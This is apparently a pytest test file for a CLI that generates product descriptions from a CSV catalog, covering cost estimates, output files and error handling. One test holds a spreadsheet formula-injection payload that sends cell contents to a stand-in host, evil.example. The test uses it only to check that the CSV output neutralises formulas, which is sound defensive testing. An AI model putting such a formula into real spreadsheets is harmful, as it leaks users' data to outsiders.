"""``contentmill products``: the dry-run estimate (no model called), a real run with --json and CSV out, and
errors as one line."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from products_helpers import SHARED_CATALOG, product_row, write_catalog

from contentmill.products.catalog import CELL_LIMIT
from contentmill.testing.harness import Upstream

CLI = [sys.executable, str(Path(__file__).with_name("products_cli_app.py"))]
SUMMARY_KEYS = {"items", "done", "failed", "reused", "cost_usd", "tokens", "by_tier", "out"}


def run_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=280, env=env or dict(os.environ))


def test_a_dry_run_estimates_each_tier_without_any_provider(tmp_path: Path) -> None:
    catalog = write_catalog(tmp_path / "catalog.csv", [product_row(n) for n in range(40)])
    done = run_cli(str(catalog), "--dry-run", "--json")  # no provider key or URL is set: nothing can be called
    assert done.returncode == 0, done.stderr
    estimate = json.loads(done.stdout)
    assert SUMMARY_KEYS <= set(estimate) and estimate["dry_run"] is True
    assert estimate["items"] == 40 == sum(t["items"] for t in estimate["by_tier"].values())
    assert set(estimate["by_tier"]) == {"light", "standard", "premium"}
    for tier in estimate["by_tier"].values():
        assert tier["requests"] < tier["items"] or tier["items"] == 1  # packed
        assert 0 < tier["cost_usd"] <= tier["max_cost_usd"]
    assert estimate["cost_usd"] == pytest.approx(sum(t["cost_usd"] for t in estimate["by_tier"].values()))


@pytest.mark.skipif(not SHARED_CATALOG.exists(), reason=f"the shared sample catalog is absent ({SHARED_CATALOG})")
def test_the_sample_catalog_estimates_as_it_is() -> None:
    done = run_cli(str(SHARED_CATALOG), "--dry-run", "--json")
    assert done.returncode == 0, done.stderr
    estimate = json.loads(done.stdout)
    assert (estimate["items"], estimate["row_errors"]) == (1000, 0)
    assert estimate["by_tier"]["premium"]["model"] == "openai:gpt-4o" and estimate["requests"] < 100


def test_a_missing_catalog_or_a_bad_config_is_one_line_on_stderr(tmp_path: Path) -> None:
    done = run_cli(str(tmp_path / "nope.csv"), "--dry-run")
    assert done.returncode == 1 and done.stderr.count("\n") == 1 and "no catalog file" in done.stderr
    config = tmp_path / "products.yaml"
    config.write_text("packing: {max_items: 0}\n", encoding="utf-8")
    catalog = write_catalog(tmp_path / "catalog.csv", [product_row(1)])
    done = run_cli(str(catalog), "--dry-run", "--config", str(config))
    assert done.returncode == 1 and "packing.max_items" in done.stderr


def test_a_run_writes_csv_and_prints_one_json_object(shop: Callable[..., Upstream], tmp_path: Path,
                                                     prefect_api: str) -> None:
    server = shop()
    catalog = write_catalog(tmp_path / "catalog.csv", [product_row(n) for n in range(12)])
    out = tmp_path / "descriptions.csv"
    env = {**os.environ, "PREFECT_API_URL": prefect_api}
    done = run_cli(str(catalog), "--out", str(out), "--limit", "10", "--tag", "project=spring", "--json", env=env)
    assert done.returncode == 0, done.stderr
    summary = json.loads(done.stdout)
    assert SUMMARY_KEYS <= set(summary) and summary["out"] == str(out)
    assert (summary["items"], summary["done"], summary["failed"]) == (10, 10, 0)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["id"] for r in rows] == [f"p{n:04d}" for n in range(10)]
    assert all(r["description"] and float(r["cost_usd"]) > 0 for r in rows)
    assert server.stats()["items"] == 10


def test_a_cell_over_the_limit_is_its_rows_error_and_formulas_are_quoted_in_csv(
        shop: Callable[..., Upstream], tmp_path: Path, prefect_api: str) -> None:
    shop()
    rows = [product_row(n) for n in range(6)]
    rows[2]["About Product"] = "pasted " * (17 * 1024 * 1024 // 7)  # 17 MB: over the limit, once a traceback
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Meadow Kite Model 4")'
    rows[4]["Product Name"] = formula
    catalog = write_catalog(tmp_path / "catalog.csv", rows)
    out = tmp_path / "descriptions.csv"
    done = run_cli(str(catalog), "--out", str(out), "--json", env={**os.environ, "PREFECT_API_URL": prefect_api})
    assert done.returncode == 0, done.stderr[-3000:]
    assert "Traceback" not in done.stderr
    summary = json.loads(done.stdout)
    assert (summary["items"], summary["done"], summary["failed"], summary["row_errors"]) == (5, 5, 0, 1)
    with out.open(newline="", encoding="utf-8") as handle:
        written = {r["id"]: r for r in csv.DictReader(handle)}
    assert list(written) == ["p0000", "p0001", "p0003", "p0004", "p0005"]
    assert all(r["description"] for r in written.values())
    assert written["p0004"]["name"] == "'" + formula  # a spreadsheet shows it as text, runs nothing
    (error,) = [json.loads(line) for line in Path(summary["errors_out"]).read_text(encoding="utf-8").splitlines()]
    assert (error["row"], error["id"]) == (3, "p0002")
    assert "column 'About Product' holds" in error["reason"] and f"{CELL_LIMIT:,}" in error["reason"]
